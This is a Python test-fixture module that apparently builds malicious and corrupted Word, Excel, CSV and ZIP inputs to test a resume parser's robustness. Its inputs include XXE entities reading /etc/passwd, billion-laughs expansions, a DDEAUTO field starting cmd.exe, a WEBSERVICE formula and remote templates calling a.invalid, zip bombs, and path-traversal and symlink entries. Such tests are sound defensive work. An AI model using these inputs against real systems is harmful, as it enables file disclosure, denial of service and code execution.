"""Word files, workbooks and ZIPs that somebody wrote to do harm, or that some program broke."""

import io
import stat
import struct
import warnings
import zipfile
from pathlib import Path

ROOT = Path(__file__).parents[2]
GOOD = (ROOT / "tests" / "fixtures" / "resumes" / "network.docx").read_bytes()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
M = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINE = "<w:p><w:r><w:t>Wrote Python scripts and SQL queries</w:t></w:r></w:p>"


def packed(parts, method=zipfile.ZIP_DEFLATED):
    """A ZIP of these parts: names, or entries with their own fields, and contents."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as made:
        warnings.simplefilter("ignore")
        for name, content in parts:
            made.writestr(name, content)
    return buffer.getvalue()


def word(body, *others, before="", method=zipfile.ZIP_DEFLATED, encoding="utf-8"):
    document = f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode(encoding)
    return packed([("[Content_Types].xml", "<Types/>"), ("word/document.xml", document), *others], method)


def strict_word(body):
    """A Word file that was saved as "Strict Open XML": the same elements under another name."""
    name = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    document = f'<w:document xmlns:w="{name}"><w:body>{body}</w:body></w:document>'
    return packed([("[Content_Types].xml", "<Types/>"), ("word/document.xml", document)])


def paragraph(text, properties=""):
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def nested(before, after, depth, inside=LINE):
    return before * depth + inside + after * depth


def declared(subset, body=""):
    return word(body or paragraph("&x; Python"), before=f"<!DOCTYPE d [{subset}]>")


def laughs():
    lines = "".join(f'<!ENTITY x{level} "{f"&x{level - 1};" * 10}">' for level in range(1, 10))
    return declared('<!ENTITY x0 "lol">' + lines, paragraph("&x9; Python"))


def lying(data, claimed):
    """The same ZIP, every size in its list of files another."""
    made, place = bytearray(data), 0
    while (place := made.find(b"PK\x01\x02", place)) >= 0:
        made[place + 20 : place + 28] = struct.pack("<2L", claimed, claimed)
        place += 46
    return bytes(made)


def flagged(data, flag=1):
    made, place = bytearray(data), 0
    while (place := made.find(b"PK\x01\x02", place)) >= 0:
        made[place + 8] |= flag
        place += 46
    return bytes(made)


def relations(target):
    return (
        "word/_rels/document.xml.rels",
        f'<Relationships><Relationship Id="a" Target="{target}" TargetMode="External"/></Relationships>',
    )


WORD = {
    **{f"cut at {share} %": lambda share=share: GOOD[: len(GOOD) * share // 100] for share in (10, 50, 90, 99)},
    "cells that span 2,147,483,648": lambda: word(
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483648"/></w:tcPr>{LINE}</w:tc></w:tr></w:tbl>'
    ),
    "tables in each other": lambda: word(nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 2000)),
    "tables in each other, as deep as is read": lambda: word(
        nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 60)
    ),
    "boxes in each other": lambda: word(nested("<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>", 3000)),
    "controls in each other": lambda: word(nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 100)),
    "a table of 40,000 cells": lambda: word(
        "<w:tbl>" + f"<w:tr>{f'<w:tc>{LINE}</w:tc>' * 20}</w:tr>" * 2000 + "</w:tbl>"
    ),
    "40,000 lines": lambda: word(LINE * 40_000),
    "a line of 5,000,000 characters": lambda: word(paragraph("Python " * 700_000)),
    "300,000 empty runs": lambda: word("<w:p>" + "<w:r/>" * 300_000 + "<w:r><w:t>Python</w:t></w:r></w:p>"),
    "a file of this machine": lambda: declared('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "an address": lambda: declared('<!ENTITY x SYSTEM "http://a.invalid/x">'),
    "a billion laughs": laughs,
    "a quadratic blow-up": lambda: declared(f'<!ENTITY x "{"a" * 50_000}">', paragraph("&x;" * 20_000)),
    "declarations in UTF-16": lambda: word(
        paragraph("&x;"),
        before='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]>',
        encoding="utf-16",
    ),
    "declarations in a header": lambda: word(LINE, ("word/header1.xml", '<!DOCTYPE d [<!ENTITY x "y">]><d>&x;</d>')),
    "a template elsewhere": lambda: word(LINE, relations("http://a.invalid/template.dotm")),
    "a picture elsewhere": lambda: word(LINE, relations("\\\\a.invalid\\share\\a.png")),
    "a field that starts a program": lambda: word(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>' + LINE
    ),
    "macros": lambda: word(LINE, ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 100)),
    "another document inside": lambda: word('<w:altChunk r:id="a" xmlns:r="r"/>' + LINE, ("word/other.docx", GOOD)),
    "a bomb of 150 MB": lambda: packed([("[Content_Types].xml", ""), ("word/document.xml", bytes(150_000_000))]),
    "a header that is a bomb": lambda: word(LINE, ("word/header1.xml", bytes(100_000_000))),
    "a bomb of another method": lambda: packed(
        [("[Content_Types].xml", ""), ("word/document.xml", bytes(50_000_000))], zipfile.ZIP_BZIP2
    ),
    "sizes that lie": lambda: lying(word(LINE), 5),
    "sizes that lie upwards": lambda: lying(word(LINE), 2**31),
    "a password": lambda: flagged(word(LINE)),
    "3,000 parts": lambda: word(LINE, *((f"word/media/{number}", "") for number in range(3000))),
    "a part twice": lambda: word(LINE, ("word/document.xml", "<x/>")),
    "no document": lambda: packed([("[Content_Types].xml", "<Types/>"), ("word/styles.xml", "<a/>")]),
    "an empty document": lambda: word(""),
    "nothing but deletions": lambda: word("<w:p><w:del><w:r><w:delText>Python</w:delText></w:r></w:del></w:p>"),
    "nothing but zero-width signs": lambda: word(paragraph("\u200b\u200d\u2060" * 1000)),
    "characters that XML has not": lambda: word(paragraph("Python \x00\x0b")),
    "no XML": lambda: packed([("[Content_Types].xml", ""), ("word/document.xml", b"\xff\xfe nothing")]),
    "styles that are each other": lambda: word(
        paragraph("Python and SQL", '<w:pPr><w:pStyle w:val="A"/></w:pPr>'),
        (
            "word/styles.xml",
            f'<w:styles xmlns:w="{W}"><w:style w:styleId="A"><w:basedOn w:val="B"/><w:rPr><w:vanish/></w:rPr></w:style>'
            '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>',
        ),
    ),
    "hidden text": lambda: word(LINE + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Kubernetes</w:t></w:r></w:p>"),
    "40,000 hidden texts": lambda: word(
        LINE + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Docker</w:t></w:r></w:p>" * 40_000
    ),
    "signs inside words": lambda: word(paragraph("Py\u200bthon, S\u00adQL")),
    "the strict form of Word": lambda: strict_word(LINE),
    "right to left": lambda: word(paragraph("\u202enohtyP\u202c and SQL")),
    "an attribute of 5,000,000 characters": lambda: word(f'<w:p a="{"x" * 5_000_000}"/>' + LINE),
    "100,000 names for spaces": lambda: word(
        "<w:p " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(20_000)) + "/>" + LINE
    ),
}


def sheet(rows, *others, shared=""):
    parts = [
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{M}"><sheetData>{rows}</sheetData></worksheet>'),
    ]
    strings = [("xl/sharedStrings.xml", f'<sst xmlns="{M}">{shared}</sst>')] if shared else []
    return packed([*parts, *strings, *others])


def row(number="", cell="<c t='str'><v>skill</v></c>", times=1):
    return f'<row r="{number}">{cell}</row>' * times


SHEETS = {
    "a row of number -2,000,000,000": lambda: sheet(row("-2000000000") + row("1")),
    "a row of number 2,000,000,000": lambda: sheet(row("1") + row("2000000000")),
    "a row of number 10 to the 5,000": lambda: sheet(row("9" * 5000)),
    "rows of one number": lambda: sheet(row("7", times=1500)),
    "rows that go back and forth": lambda: sheet((row("1999") + row("1")) * 900),
    "a million rows": lambda: sheet(row(times=300_000)),
    "a cell in column ZZZ": lambda: sheet(row(cell="<c r='ZZZ1' t='str'><v>a</v></c>")),
    "a string that all cells share": lambda: sheet(
        row(cell="<c t='s'><v>0</v></c>" * 40, times=900), shared=f"<si><t>{'x' * 1_000_000}</t></si>"
    ),
    "a string that is not there": lambda: sheet(row(cell="<c t='s'><v>99</v></c>")),
    "a string of number -1": lambda: sheet(row(cell="<c t='s'><v>-1</v></c>"), shared="<si><t>a</t></si>"),
    "a string of a number that is none": lambda: sheet(row(cell=f"<c t='s'><v>{'9' * 5000}</v></c>"), shared="<si/>"),
    "a bomb": lambda: packed([("xl/workbook.xml", ""), ("xl/worksheets/sheet1.xml", bytes(200_000_000))]),
    "declarations": lambda: packed(
        [("xl/workbook.xml", ""), ("xl/worksheets/sheet1.xml", "<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>")]
    ),
    "no sheets": lambda: packed([("xl/workbook.xml", "<workbook/>")]),
    "a thousand sheets": lambda: packed(
        [
            ("xl/workbook.xml", ""),
            *((f"xl/worksheets/sheet{n}.xml", f'<worksheet xmlns="{M}">{row()}</worksheet>') for n in range(1000)),
        ]
    ),
    "a formula": lambda: sheet(row(cell="<c><f>WEBSERVICE(&quot;http://a.invalid&quot;)</f><v>1</v></c>")),
    "rows in each other": lambda: sheet("<row>" * 200 + "</row>" * 200),
    "a list without end": lambda: b'"a,' * 600_000,
    "2,001 lines": lambda: b"skill,rating\n" * 2001,
    "a line of 600,000 cells": lambda: b"skill,rating\n" + b"," * 600_000,
    "200,000 headings": lambda: b",".join(b"h%d" % n for n in range(200_000)) + b"\n1,2\n",
    "a quote without end": lambda: b'skill,rating\nPython,"' + b"a,b\n" * 400_000,
    "a line with NUL": lambda: b"skill,rating\nPython\x00,2\n",
}


def odd_entry(name, mode=0, **fields):
    entry = zipfile.ZipInfo(name)
    entry.external_attr = mode << 16
    for field, value in fields.items():
        setattr(entry, field, value)
    return entry


TEXT = "SKILLS\nPython and SQL"


def zip_in_zip(depth):
    data = packed([("cv.txt", TEXT)])
    for _ in range(depth):
        data = packed([("inner.zip", data)])
    return data


def overlapping():
    """Two thousand files that are one: all entries of the list tell the same place."""
    data = packed([("a", bytes(10_000_000))])
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry, tail = data[start:end], bytearray(data[end:])
    tail[8:12] = struct.pack("<2H", 2000, 2000)
    tail[12:16] = struct.pack("<L", 2000 * len(entry))
    return data[:start] + entry * 2000 + bytes(tail)


ZIPS = {
    "names that climb out": lambda: packed(
        [("../../../tmp/evil.txt", TEXT), ("/etc/evil.txt", TEXT), ("C:\\evil.txt", TEXT)]
    ),
    "names that are none": lambda: packed(
        [("a/..", TEXT), ("..", TEXT), (".", TEXT), ("\u202egpj.txt", TEXT), ("\x1b[31m.txt", TEXT)]
    ),
    "2,000 files of one name": lambda: packed([("cv.txt", "")] * 2000),
    "names of 60,000 characters": lambda: packed([("x" * 60_000 + str(number), "") for number in range(30)]),
    "links and devices": lambda: packed(
        [(odd_entry("a", stat.S_IFLNK | 0o777), "/etc/passwd"), (odd_entry("b", stat.S_IFCHR), ""), ("cv.txt", TEXT)]
    ),
    "bombs": lambda: packed([(f"{number}.txt", bytes(30_000_000)) for number in range(5)]),
    "one file 2,000 times": overlapping,
    "a ZIP in a ZIP": lambda: zip_in_zip(1),
    "fifty ZIPs in each other": lambda: zip_in_zip(50),
    "3,000 files": lambda: packed([(f"{number}.txt", "") for number in range(3000)]),
    "65,535 files": lambda: packed([(f"{number}", "") for number in range(65_535)], zipfile.ZIP_STORED),
    "folders alone": lambda: packed([("a/", ""), ("b/c/", "")]),
    "what systems leave behind": lambda: packed([("__MACOSX/._cv.pdf", "x"), (".DS_Store", "x"), ("~$cv.docx", "x")]),
    "another method": lambda: packed([("cv.txt", TEXT)], zipfile.ZIP_LZMA),
    "a password": lambda: flagged(packed([("cv.txt", TEXT)])),
    "sizes that lie": lambda: lying(packed([("cv.txt", TEXT * 50)]), 3),
    "sizes beyond the file": lambda: lying(packed([("cv.txt", TEXT)]), 2**31),
    "cut": lambda: packed([("cv.txt", TEXT * 500)])[:-30],
    "something before it": lambda: b"PK\x03\x04" + bytes(500) + packed([("cv.txt", TEXT)]),
    "an end alone": lambda: b"PK\x05\x06" + bytes(18),
    "noise": lambda: b"PK\x03\x04" + bytes(range(256)) * 50,
    "an end that lies": lambda: b"PK\x03\x04" + bytes(100) + b"PK\x05\x06" + b"\xff" * 18,
}
